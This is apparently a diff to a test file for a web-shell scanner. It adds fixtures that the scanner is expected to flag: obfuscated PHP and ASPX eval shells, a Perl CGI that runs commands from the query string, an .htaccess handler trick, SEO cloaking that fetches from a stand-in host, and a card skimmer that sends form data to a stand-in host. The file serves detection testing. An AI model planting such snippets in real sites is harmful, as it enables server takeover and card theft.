@@ -96,6 +96,15 @@ test.each<[string, string, string]>([
 	['a page in Lua', '/srv/www/w/cgi-bin/s.lua', '#!/usr/bin/lua\nlocal h = io.popen(os.getenv("QUERY_STRING"))\n'],
 	['an .htaccess that is the page itself', '/var/www/a/.htaccess', 'AddType application/x-httpd-php .htaccess\n#<?php system($_GET["c"]); ?>\n'],
 	['a script that sends away what is typed', '/var/www/a/checkout.js', "f.addEventListener('submit',()=>{new Image().src='https://203.0.113.9/i.gif?d='+btoa(d);});\n"],
+	['a function of letters given a header', '/var/www/a/session.inc.php', "<?php\n$s = array('s','y','m','e','t'); $f = $s[0].$s[1].$s[0].$s[4].$s[3].$s[2];\n$h = getallheaders(); if (isset($h['X-Id'])) { $f(strrev($h['X-Id'])); }\n"],
+	['words in codes, given the request', '/var/www/a/nav.php', '<?php ${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}["\\x61"]="\\x63\\x61";$x=${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}["\\x61"];if(!empty($_POST["\\x70"]))$x($_POST["\\x70"],$_POST["\\x61"]);'],
+	['a pattern in a variable that evaluates', '/var/www/a/f.phtml', "<?php $p='/.*/e';@preg_replace($p,$_POST['fa'],'');"],
+	['a page for search engines alone', '/var/www/a/i.php', "<?php if(preg_match('/googlebot|bingbot/i',$_SERVER['HTTP_USER_AGENT'])){echo @file_get_contents('http://seo.example/z.php?d='.$_SERVER['HTTP_HOST']);exit;} ?>\n<?php require 'blog.php';\n"],
+	['a page that evaluates in decoded form', '/var/www/a/e.aspx', '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Item["o"])),"unsafe");%>'],
+	['a counter that runs the query', '/var/www/a/c.pl', '#!/usr/bin/perl\nprint "\\n\\n"; my $q=$ENV{QUERY_STRING}; $q=~s/%([0-9a-f]{2})/chr hex $1/gei; print `$q 2>&1`;\n'],
+	['pictures of one name as code', '/var/www/a/.htaccess', '<FilesMatch "logo_small\\.gif$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'],
+	['cards sent away as a picture', '/var/www/shop/js/vendor.min.js', 'd.addEventListener("submit",function(){var o={};/cc|card|cvv|exp/i.test(e.name)&&(o[e.name]=e.value);(new Image).src="https://fonts.example/i.gif?d="+btoa(JSON.stringify(o))},!0)'],
+	['an archive as a style', '/var/www/a/bundle.css', 'PK\x03\x04\x14\x00abc'],
 	['a page somebody signed', '/var/www/a/index.html', '<html><head><title>Hacked by Mallory</title></head></html>\n'],
 ])('%s', (_name, path, text) => {
 	expect(sweep(webShells, memoryHost({ [path]: text })).filter(({ severity }) => !/^(?:info|low)$/.test(severity))).toHaveLength(1);
